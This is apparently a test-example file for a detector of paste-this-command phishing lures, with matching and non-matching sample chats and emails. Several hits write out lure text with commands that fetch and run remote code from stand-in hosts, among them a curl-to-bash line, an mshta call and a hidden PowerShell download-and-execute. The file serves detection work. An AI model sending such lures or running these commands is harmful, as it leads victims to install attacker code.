import type { Examples } from "@doorward/core";
import { makeConversation } from "../example-conversations.ts";
import { makeMail } from "../example-mail.ts";

/** Cases of it, and what resembles it. */
export const examples: Examples = {
  hits: [
    {
      name: "the search of macOS",
      files: {
        "chat.json": makeConversation(
          "chat",
          "The page asks for an extension.",
          'Press cmd + space, type terminal, then paste this and hit enter:\n\n/bin/bash -c "$(curl -fsSL https://get.stranger.example/i)"',
        ),
      },
    },
    {
      name: "the Run box of Windows",
      files: {
        "mail.eml": makeMail({
          text: "Press Windows + R, then Ctrl + V and Enter:\n\nmshta https://view.stranger.example/doc\n",
        }),
      },
    },
    {
      name: "the address bar of the file window",
      files: {
        "mail.eml": makeMail({
          text: 'To open the file offline open File Explorer, press Ctrl+L, paste the path and press Enter:\n\npowershell -w hidden -c "iwr https://doc.stranger.example/a | iex" # C:\\docs\\plan.docx\n',
        }),
      },
    },
  ],
  misses: [
    {
      name: "help with a setting",
      why: "The command shows something and fetches nothing.",
      files: {
        "mail.eml": makeMail({ text: "Press Windows + R, paste msinfo32 and press Enter. Then send us the report." }),
      },
    },
    {
      name: "a link to copy",
      why: "No command is there.",
      files: {
        "mail.eml": makeMail({
          text: "If the button does not work, press Ctrl+L in your browser, paste the link and press Enter: https://app.stranger.example/x",
        }),
      },
    },
    {
      name: "an install guide",
      why: "It names no keys: the reader knows a terminal.",
      files: {
        "mail.eml": makeMail({ text: "Install it with:\n\ncurl -fsSL https://get.stranger.example/install.sh | sh\n" }),
      },
    },
  ],
  evasions: [
    {
      name: "keys behind a picture",
      caughtBy: "nothing",
      files: { "mail.eml": makeMail({ text: "Do what the picture shows." }) },
    },
  ],
};
